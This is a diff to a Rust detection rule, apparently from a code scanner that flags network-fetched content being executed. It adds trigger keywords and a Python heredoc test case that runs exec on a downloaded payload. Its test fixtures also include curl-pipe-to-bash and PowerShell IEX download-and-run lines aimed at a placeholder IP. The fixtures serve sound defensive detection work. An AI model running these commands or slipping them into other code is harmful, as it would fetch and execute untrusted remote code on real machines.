@@ -35,6 +35,9 @@ pub(super) const RULE: Rule = Rule {
         "child_process",
         "doshellscript",
         "system(",
+        "getattr(",
+        "__import__(",
+        "eval)",
     ],
     check: Check::Unit(check),
     hits: &[
@@ -53,9 +56,15 @@ pub(super) const RULE: Rule = Rule {
         file("x.py", "import os\nos.system('curl -s http://203.0.113.9/a | bash')\n"),
         file("x.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\n"),
         file("x.ps1", "iwr http://203.0.113.9/a.ps1 | iex\n"),
+        text(
+            "```bash\npython3 - <<'END'\nimport urllib.request as u\nexec(u.urlopen('http://203.0.113.9/a').read())\nEND\n```",
+        ),
         text("```js\napp.doShellScript('curl -fsSL https://203.0.113.9/b.sh | sh');\n```"),
     ],
     misses: &[
+        text(
+            "```bash\npython3 - <<'END'\nimport requests\nprint(requests.get('https://a.host.test').json())\nEND\n```",
+        ),
         file("x.py", "data = requests.get(u).json()\nsubprocess.run(['git', 'log'])\n"),
         file("x.py", "version = requests.get(u).text\nsubprocess.run(['pip', 'install', f'x=={version}'])\n"),
         file("x.js", "const r = await fetch(u);\nconst m = re.exec(await r.text());\n"),
@@ -64,9 +73,9 @@ pub(super) const RULE: Rule = Rule {
 };
 
 fn check(unit: &Unit<'_>) -> Vec<Hit> {
-    // Commands on their own are looked at by the rules about downloads.
+    // Commands on their own are looked at by the rules about downloads; what one of them is given to run is not.
     if unit.language == crate::language::Language::Shell && super::is_plain_shell(unit) {
-        return Vec::new();
+        return super::flowing(unit, |source, sink| source.range == sink.range && fetched_runs(source, sink));
     }
     super::flowing(unit, fetched_runs)
 }
